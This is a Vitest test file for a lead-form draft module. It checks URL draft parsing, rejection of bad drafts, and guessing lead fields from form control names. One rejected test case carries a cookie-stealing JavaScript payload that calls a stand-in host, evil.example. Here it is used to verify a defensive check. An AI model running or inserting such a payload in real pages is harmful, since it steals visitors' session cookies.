// The editor's pre-fill from a `?draft=` URL and "Capture this form"'s guess of the lead fields.
import { describe, expect, it } from 'vitest';
import { draftFromMissed, draftFromSearch, draftPath, guessLeadField } from './form-draft.ts';

describe('draftFromSearch', () => {
  it('reads a draft made by draftPath back as it was', () => {
    const draft = { title: 'Заявка', trigger: 'click' as const, selector: '#f, .x', fields: { phone: { source: 'field' as const, value: 'tel', required: false } } };
    const path = draftPath('p1', draft);
    expect(path.startsWith('/admin/p/p1/forms/new?draft=')).toBe(true);
    expect(draftFromSearch(path.slice(path.indexOf('?')))).toEqual({ draft, bad: false });
  });

  it('no draft parameter is no draft and no problem', () => {
    expect(draftFromSearch('')).toEqual({ draft: null, bad: false });
    expect(draftFromSearch('?other=1')).toEqual({ draft: null, bad: false });
  });

  it.each([
    ['not JSON', '{title'],
    ['an array', '[]'],
    ['a string', '"x"'],
    ['a wrong trigger', '{"trigger":"hover"}'],
    ['a title that is not text', '{"title":5}'],
    ['an unknown lead field', '{"fields":{"age":{"source":"field","value":"a"}}}'],
    ['a rule without a value', '{"fields":{"name":{"source":"field"}}}'],
    ['a rule of an unknown source', '{"fields":{"name":{"source":"eval","value":"a"}}}'],
    // A link anyone can send must not carry code the site would run once the form is saved.
    ['a js rule', '{"fields":{"name":{"source":"js","value":"fetch(\'https://evil.example/?\'+document.cookie)"}}}'],
  ])('%s is a bad draft', (_what, json) => {
    expect(draftFromSearch(`?draft=${encodeURIComponent(json)}`)).toEqual({ draft: null, bad: true });
  });

  it('keys it does not know are left out; a missing required is false', () => {
    const json = JSON.stringify({ selector: '#a', extra: 1, fields: { email: { source: 'field', value: 'mail' } } });
    expect(draftFromSearch(`?draft=${encodeURIComponent(json)}`).draft).toEqual({ selector: '#a', fields: { email: { source: 'field', value: 'mail', required: false } } });
  });
});

describe('guessLeadField', () => {
  it.each([
    [{ name: 'f1', type: 'tel' }, 'phone'],
    [{ name: 'contact', type: 'email' }, 'email'],
    [{ name: 'your-name', type: 'text' }, 'name'],
    [{ name: 'Имя', type: 'text' }, 'name'],
    [{ name: 'fio', type: 'text' }, 'name'],
    [{ name: 'Телефон', type: 'text' }, 'phone'],
    [{ name: 'your-email', type: 'text' }, 'email'],
    [{ name: 'Почта', type: 'text' }, 'email'],
    [{ name: 'your-message', type: 'textarea' }, 'comment'],
    [{ name: 'Комментарий', type: 'text' }, 'comment'],
    [{ name: 'details', type: 'textarea' }, 'comment'],
    [{ name: 'username', type: 'text' }, null],
    [{ name: 'utm_name', type: 'hidden' }, null],
    [{ name: 'name', type: 'password' }, null],
    [{ name: 'quantity', type: 'number' }, null],
  ])('%j → %s', (field, expected) => {
    expect(guessLeadField(field)).toBe(expected);
  });
});

describe('draftFromMissed', () => {
  it('maps each lead field once, a control found by its type before one found by its name', () => {
    const draft = draftFromMissed(
      {
        selector: '.t-form',
        fields: [
          { name: 'phone_old', type: 'text' },
          { name: 'Name', type: 'text' },
          { name: 'tildaspec-phone-part[]', type: 'tel' },
          { name: 'Email', type: 'email' },
          { name: 'formservices[]', type: 'hidden' },
        ],
      },
      'Request',
    );
    expect(draft).toEqual({
      title: 'Request',
      trigger: 'submit',
      selector: '.t-form',
      fields: {
        name: { source: 'field', value: 'Name', required: false },
        phone: { source: 'field', value: 'tildaspec-phone-part[]', required: false },
        email: { source: 'field', value: 'Email', required: false },
      },
    });
  });
});
